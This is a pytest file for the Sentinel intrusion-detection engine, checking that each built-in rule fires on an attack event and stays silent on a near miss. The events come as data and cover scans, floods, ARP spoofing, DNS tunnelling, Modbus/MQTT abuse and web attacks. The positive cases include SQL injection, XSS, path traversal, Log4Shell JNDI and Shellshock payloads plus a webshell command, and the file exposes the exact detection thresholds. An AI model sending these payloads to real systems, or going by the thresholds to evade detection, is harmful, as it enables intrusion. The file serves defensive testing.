"""Each built-in rule fires on a positive example and stays silent on a near miss, in Sentinel's own engine.

Events are built from the real event dataclasses (so every field name is checked by the model) and run through
sentinel.detect.Engine with only the three packs loaded. Thresholds are probed at N (fires) and N-1 (silent).
"""

from __future__ import annotations

import pytest

from sentinel.events.application import Auth, HttpAccess, YaraMatch
from sentinel.events.perception import Coap, Credential, DeviceUnknown, HeartbeatLost, Modbus, Mqtt
from sentinel.events.transport import Arp, Conn, Dns, Http, Icmp, Tls

from .packs import PACKS, REPO

detect = pytest.importorskip("sentinel.detect")

T0 = 1_795_000_000.0  # a fixed instant in 2026


@pytest.fixture(scope="module")
def ruleset():
    return detect.RuleSet.load([REPO / "rules" / p for p in PACKS], builtin=False)


def fired(ruleset, events) -> set[str]:
    evs = sorted((e.to_dict() for e in events), key=lambda d: d["ts"])
    return {a.title for a in detect.Engine(ruleset).process_many(evs)}


# ------------------------------------------------------------------ event builders


def conn(i=0, src="10.0.0.9", dst="10.0.0.1", dport=80, state="S0", history="S", proto="tcp", dt=0.01, **kw):
    return Conn(ts=T0 + i * dt, src_ip=src, dst_ip=dst, src_port=40000 + i, dst_port=dport, proto=proto,
                conn_state=state, history=history, **kw)


def web(uri="/", i=0, src="203.0.113.7", status=200, method="GET", ua="Mozilla/5.0", dt=0.1):
    return HttpAccess(ts=T0 + i * dt, src_ip=src, method=method, uri=uri, status=status, user_agent=ua)


def ssh_fail(i, user="root", dt=1.0, src="198.51.100.4", service="sshd"):
    return Auth(ts=T0 + i * dt, src_ip=src, outcome="failure", user=user, method="password", service=service)


def mqtt(msg_type, i=0, **kw):
    return Mqtt(ts=T0 + i, src_ip="10.1.0.5", dst_ip="10.1.0.1", dst_port=1883, proto="tcp", msg_type=msg_type, **kw)


def modbus(fc, i=0, dt=1.0, **kw):
    return Modbus(ts=T0 + i * dt, src_ip="10.2.0.9", dst_ip="10.2.0.3", dst_port=502, proto="tcp", func_code=fc, **kw)


def dns(i=0, query="www.example.com", qtype="A", dt=0.01, **kw):
    kw.setdefault("qname_len", len(query))
    return Dns(ts=T0 + i * dt, src_ip="172.17.0.3", dst_ip="172.17.0.2", dst_port=53, proto="udp", query=query,
               qtype=qtype, **kw)


def icmp_echo(i, dst="10.0.0.1", src="10.0.0.66", dt=0.01):
    return Icmp(ts=T0 + i * dt, src_ip=src, dst_ip=dst, proto="icmp", icmp_type=8)


def arp(op, i=0, src_ip="10.0.0.1", src_mac="aa:aa:aa:aa:aa:01", dst_ip="10.0.0.20", gratuitous=False):
    return Arp(ts=T0 + i, src_ip=src_ip, dst_ip=dst_ip, proto="arp", operation=op, src_mac=src_mac,
               gratuitous=gratuitous)


# ------------------------------------------------------------------ cases: title, positive, near miss

CASES = [
    # transport
    ("TCP Port Scan",
     [conn(i, dport=1000 + i) for i in range(15)],
     [conn(i, dport=1000 + i) for i in range(14)]),
    ("TCP Port Scan",  # connect() scan: handshake then reset, no data
     [conn(i, dport=1000 + i, state="RSTO", history="ShAR") for i in range(15)],
     [conn(i, dport=1000 + i, state="SF", history="ShADadFf", orig_bytes=400) for i in range(15)]),
    ("TCP Stealth Port Scan (FIN, NULL or XMAS)",
     [conn(i, dport=1000 + i, state="OTH", history=["F", "", "Fr"][i % 3]) for i in range(10)],
     [conn(i, dport=1000 + i, state="OTH", history="ADad") for i in range(10)]),
    ("TCP Stealth Scan Probe (FIN, NULL or XMAS)",
     [conn(0, state="OTH", history="F")],
     [conn(0, state="OTH", history="Fa")]),
    ("TCP Host Sweep on One Port",
     [conn(i, dst=f"10.0.1.{i}", dport=445) for i in range(25)],
     [conn(i, dst=f"10.0.1.{i}", dport=445) for i in range(24)]),
    ("UDP Port Scan",
     [conn(i, dport=2000 + i, proto="udp", state="OTH", history="", resp_pkts=0) for i in range(15)],
     [conn(i, dport=2000 + i, proto="udp", state="OTH", history="", resp_pkts=1) for i in range(15)]),
    ("ARP Host Sweep",
     [arp("request", 0, src_ip="10.0.0.128", dst_ip=f"10.0.0.{i}") for i in range(25)],
     [arp("request", 0, src_ip="10.0.0.128", dst_ip=f"10.0.0.{i}") for i in range(24)]),
    ("ICMP Ping Sweep",
     [icmp_echo(i, dst=f"10.0.2.{i}") for i in range(25)],
     [icmp_echo(i, dst=f"10.0.2.{i}") for i in range(24)]),
    ("TCP SYN Flood",
     [conn(i, src="192.0.2.10", dst="198.51.100.5", dport=443, dt=0.001) for i in range(100)],
     [conn(i, src="192.0.2.10", dst="198.51.100.5", dport=443, dt=0.0201) for i in range(100)]),
    ("TCP SYN Flood from Many (Spoofed) Sources",
     [conn(i, src=f"10.{i // 250}.{i % 250}.1", dport=443, dt=0.05) for i in range(100)],
     [conn(i, src=f"10.{i // 250}.{i % 250}.1", dport=443, dt=0.05) for i in range(99)]),
    ("ICMP Echo Flood",
     [icmp_echo(i, dt=0.02) for i in range(200)],
     [icmp_echo(i, dt=0.02) for i in range(199)]),
    ("ARP Spoofing - One MAC Claims Several IP Addresses",
     [arp("reply", 0, src_ip="10.0.0.1", src_mac="de:ad:be:ef:00:01"),
      arp("reply", 1, src_ip="10.0.0.20", src_mac="de:ad:be:ef:00:01")],
     [arp("reply", i, src_ip="10.0.0.1", src_mac="de:ad:be:ef:00:01") for i in range(5)]),
    ("ARP Spoofing - One IP Address Claimed by Several MACs",
     [arp("reply", 0, src_mac="aa:aa:aa:aa:aa:01"), arp("reply", 1, src_mac="de:ad:be:ef:00:01")],
     [arp("reply", i, src_mac="aa:aa:aa:aa:aa:01") for i in range(5)]),
    ("Gratuitous ARP Reply",
     [arp("reply", gratuitous=True, dst_ip="10.0.0.1")],
     [arp("request", gratuitous=True, dst_ip="10.0.0.1")]),
    ("DNS Query with Long High-Entropy Name",
     [dns(query="q+z8anwaba" * 13 + ".hidemyself.org", qtype="TXT", qname_entropy=5.2)],
     [dns(query="a" * 130 + ".example.org", qname_entropy=1.0)]),
    ("DNS NULL Record Query", [dns(qtype="NULL")], [dns(qtype="A")]),
    ("DNS Tunnelling - Burst of TXT/NULL/ANY Queries",
     [dns(i, query=f"x{i}.t.example", qtype="TXT") for i in range(50)],
     [dns(i, query=f"x{i}.t.example", qtype="TXT") for i in range(49)]),
    ("DNS Tunnelling - Many Distinct Names from One Client",
     [dns(i, query=f"n{i}.t.example") for i in range(300)],
     [dns(i, query="www.example.com") for i in range(300)]),
    ("Cleartext Credentials on the Network",
     [Credential(ts=T0, src_ip="10.0.0.5", dst_ip="10.0.0.6", dst_port=21, protocol="ftp", username="bro")],
     [Credential(ts=T0, src_ip="10.0.0.5", dst_ip="10.0.0.6", dst_port=1883, protocol="mqtt", username="u")]),
    ("Password Guessing over a Cleartext Protocol",
     [Credential(ts=T0 + 2 * i, src_ip="192.168.56.1", dst_ip="192.168.56.101", protocol="ftp", username="bro",
                 success=False) for i in range(20)],
     [Credential(ts=T0 + 2 * i, src_ip="192.168.56.1", dst_ip="192.168.56.101", protocol="ftp", username="bro",
                 success=i == 0) for i in range(20)]),
    ("Established Connection to a High-Risk Service Port",
     [conn(dport=445, state="SF", history="ShADadFf")],
     [conn(dport=445, state="REJ", history="Sr"), conn(1, dport=443, state="SF", history="ShADadFf")]),
    ("Deprecated TLS or SSL Version Negotiated",
     [Tls(ts=T0, src_ip="10.0.0.5", dst_ip="10.0.0.6", version="TLSv1.0")],
     [Tls(ts=T0, src_ip="10.0.0.5", dst_ip="10.0.0.6", version="TLSv1.2")]),
    # perception
    ("Anonymous MQTT Connect",
     [mqtt("CONNECT", client_id="paho/34AAE54A75D839566E", password_sent=False)],
     [mqtt("CONNECT", client_id="c1", username="user", password_sent=True)]),
    ("MQTT Connect with User Name but No Password",
     [mqtt("CONNECT", client_id="test-client-123", username="testuser", password_sent=False)],
     [mqtt("CONNECT", client_id="c1", username="user", password_sent=True)]),
    ("MQTT Subscription to Every Topic",
     [mqtt("SUBSCRIBE", topics=["#"], wildcard=True)],
     [mqtt("SUBSCRIBE", topics=["test/#"], wildcard=True)]),
    ("MQTT Multi-Level Wildcard Subscription",
     [mqtt("SUBSCRIBE", topics=["test/topic1", "test/#"], wildcard=True)],
     [mqtt("SUBSCRIBE", topics=["city/+/temp"], wildcard=True)]),
    ("MQTT Brute Force",
     [Mqtt(ts=T0 + i, src_ip="10.1.0.1", dst_ip="10.1.0.66", src_port=1883, msg_type="CONNACK", return_code=5)
      for i in range(10)],
     [Mqtt(ts=T0 + i, src_ip="10.1.0.1", dst_ip="10.1.0.66", src_port=1883, msg_type="CONNACK", return_code=5)
      for i in range(9)]),
    ("MQTT Credentials in Cleartext",
     [Credential(ts=T0, src_ip="10.1.0.5", dst_ip="10.1.0.1", dst_port=1883, protocol="mqtt", username="user")],
     [Credential(ts=T0, src_ip="10.1.0.5", dst_ip="10.1.0.1", dst_port=23, protocol="telnet", username="user")]),
    ("Modbus Write Request",
     [modbus(5, func_name="write_single_coil", is_write=True)],
     [modbus(1, func_name="read_coils", is_write=False)]),
    ("Modbus Diagnostics Request", [modbus(8, sub_function=10)], [modbus(3)]),
    ("Modbus Device Forced to Listen-Only Mode or Restarted",
     [modbus(8, sub_function=4)], [modbus(8, sub_function=10)]),
    ("Modbus Device Identification Request", [modbus(43, sub_function=14)], [modbus(4)]),
    ("Modbus Vendor-Specific or Rarely Used Function", [modbus(90)], [modbus(16, is_write=True)]),
    ("Modbus Function Code Sweep",
     [modbus(fc, i) for i, fc in enumerate(range(1, 11))],
     [modbus(fc, i) for i, fc in enumerate(range(1, 10))]),
    ("Modbus Exception Storm",
     [modbus(1, i, exception_code=2, response=True) for i in range(20)],
     [modbus(1, i, exception_code=2, response=True) for i in range(19)]),
    ("CoAP State-Changing Request without DTLS",
     [Coap(ts=T0, src_ip="127.0.0.1", dst_ip="127.0.0.1", dst_port=5683, msg_type="CON", code="PUT",
           is_request=True, uri_path="/test")],
     [Coap(ts=T0, src_ip="127.0.0.1", dst_ip="127.0.0.1", dst_port=5683, msg_type="CON", code="GET",
           is_request=True, uri_path="/test"),
      Coap(ts=T0, src_ip="127.0.0.1", dst_ip="127.0.0.1", dst_port=5684, msg_type="", code="",
           dtls=True)]),
    ("Device Heartbeat Lost",
     [HeartbeatLost(ts=T0, device="10.3.0.7", interval=60.0, silent_for=900.0, last_seen=T0 - 900)],
     [Modbus(ts=T0, src_ip="10.3.0.7", func_code=3)]),
    ("Modbus Write or Diagnostics from a Master Not Authorised for the Slave",
     [Modbus(ts=T0, src_ip="10.20.0.66", dst_ip="10.20.1.1", func_code=5, is_write=True, master_authorised=False)],
     [Modbus(ts=T0, src_ip="10.20.0.5", dst_ip="10.20.1.1", func_code=5, is_write=True, master_authorised=True)]),
    ("Unknown Device Joined the Network",
     [DeviceUnknown(ts=T0, src_ip="10.20.0.66", device="10.20.0.66", roles=["modbus_master"])],
     [Modbus(ts=T0, src_ip="10.20.0.66", func_code=5)]),
    # application
    ("SQL Injection Attempt in Web Request",
     [web("/item.php?id=1%20UNION%20SELECT%201,2,3--")], [web("/search?q=select+your+union+rep")]),
    ("Cross-Site Scripting Attempt in Web Request",
     [web("/foo?a=<script>alert(1)</script>")], [web("/static/script.js")]),
    ("Server-Side Template Injection Attempt in Web Request",
     [web("/hello?name={{7*7}}")], [web("/hello?name=77")]),
    ("Path Traversal Attempt in Web Request",
     [web("/public/plugins/grafana/%2E%2E/%2E%2E/%2E%2E/etc/passwd")], [web("/docs/a/b/index.html")]),
    ("Log4Shell (CVE-2021-44228) JNDI Lookup in Web Request",
     [web("/", ua="${jndi:ldap://198.51.100.9/a}")], [web("/price?amount=$100", ua="Mozilla/5.0 ${app}")]),
    ("Log4Shell (CVE-2021-44228) JNDI Lookup in Web Request",
     [web("/?x=${${lower:j}ndi:ldap://198.51.100.9/a}")], [web("/?x=jndi")]),
    ("Shellshock (CVE-2014-6271) Payload in Web Request",
     [web("/cgi-bin/status", ua="() { :; }; /bin/bash -c id")], [web("/cgi-bin/status", ua="curl/8.0 (x)")]),
    ("Webshell Command Execution in Web Request",
     [web("/tmui/login.jsp/..;/tmui/locallb/workspace/tmshCmd.jsp?command=whoami")],
     [web("/search?q=who+am+i")]),
    ("Access to a Known Webshell File Name", [web("/uploads/c99.php")], [web("/index.php")]),
    ("Script File Uploaded with HTTP PUT",
     [web("/uploads/x.jsp", method="PUT", status=201)],
     [web("/uploads/x.jpg", method="PUT", status=201), web("/uploads/x.jsp", method="PUT", status=403)]),
    ("Web Scanner or Attack Tool User-Agent",
     [web("/", ua="Mozilla/5.00 (Nikto/2.1.5) (Evasions:None) (Test:getinfo)")],
     [web("/", ua="Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0")]),
    ("Web Request for a Sensitive File", [web("/.git/HEAD", status=404)], [web("/github/HEAD")]),
    ("Web Scanning Burst (Many Failing Paths)",
     [web(f"/probe{i}.php", i, status=404) for i in range(10)],
     [web("/same.php", i, status=404) for i in range(10)] + [web(f"/p{i}", i, status=200) for i in range(10)]),
    ("Web Brute Force (Repeated 401 Responses)",
     [web("/client", i, method="POST", status=401) for i in range(6)],
     [web("/client", i, method="POST", status=401) for i in range(5)]
     + [web("/dav/", i, method="PROPFIND", status=401) for i in range(6)]),
    ("Web Brute Force (Web Server Auth Failures)",
     [ssh_fail(i, user="foo", service="nginx", src="127.0.0.1") for i in range(6)],
     [ssh_fail(i, user="foo", service="nginx", src="127.0.0.1") for i in range(5)]),
    ("SSH Brute Force",
     [ssh_fail(i) for i in range(6)],
     [ssh_fail(i) for i in range(5)] + [ssh_fail(i, service="nginx", src="198.51.100.99") for i in range(6)]),
    ("SSH User Enumeration",
     [ssh_fail(i, user=f"pascal{i}") for i in range(6)],
     [ssh_fail(i, user="root") for i in range(8)]),
    ("Slow SSH Brute Force",
     [ssh_fail(i, dt=150.0) for i in range(10)],
     [ssh_fail(i, dt=150.0) for i in range(9)]),
    ("YARA Rule Matched",
     [YaraMatch(ts=T0, rule="SUSP_Just_EICAR", namespace="gen_suspicious_strings", sha256="275a02", origin="x")],
     [Http(ts=T0, src_ip="10.0.0.1", method="GET", uri="/eicar.com")]),
    ("YARA Webshell Rule Matched",
     [YaraMatch(ts=T0, rule="webshell_caidao_shell_404", namespace="thor-webshells", origin="x")],
     [YaraMatch(ts=T0, rule="SUSP_Just_EICAR", namespace="gen_suspicious_strings", origin="x")]),
]


@pytest.mark.parametrize(("title", "positive", "negative"), CASES, ids=[f"{i:02d}-{c[0]}" for i, c in enumerate(CASES)])
def test_rule_fires_on_positive_and_not_on_near_miss(ruleset, title, positive, negative):
    assert title in fired(ruleset, positive)
    assert title not in fired(ruleset, negative)


def test_every_alerting_rule_has_a_case(ruleset):
    alerting = {r.meta.title for r in ruleset.rules if r.generate} | {c.meta.title for c in ruleset.correlations}
    assert alerting - {c[0] for c in CASES} == set()


def test_base_rules_do_not_alert_on_their_own(ruleset):
    # one unanswered SYN, one ARP request, one TXT query: inputs of correlations, not incidents
    assert fired(ruleset, [conn(), arp("request"), dns(qtype="TXT"), ssh_fail(0)]) == set()


def test_web_rules_apply_to_http_seen_in_captures(ruleset):
    ev = Http(ts=T0, src_ip="10.0.0.8", dst_ip="10.0.0.9", method="GET", uri="/cgi-bin/.%2e/%2e%2e/bin/sh",
              user_agent="sqlmap/1.7", status=200)
    got = fired(ruleset, [ev])
    assert {"Path Traversal Attempt in Web Request", "Web Scanner or Attack Tool User-Agent"} <= got


def test_alerts_carry_attack_and_mlps_tags(ruleset):
    alerts = detect.Engine(ruleset).process_many([ssh_fail(i).to_dict() for i in range(6)])
    bf = next(a for a in alerts if a.title == "SSH Brute Force")
    assert "t1110.001" in [t.lower().removeprefix("attack.") for t in bf.attack]
    assert any(c.startswith("8.1.4.1") for c in bf.controls)
    assert bf.src == "198.51.100.4"
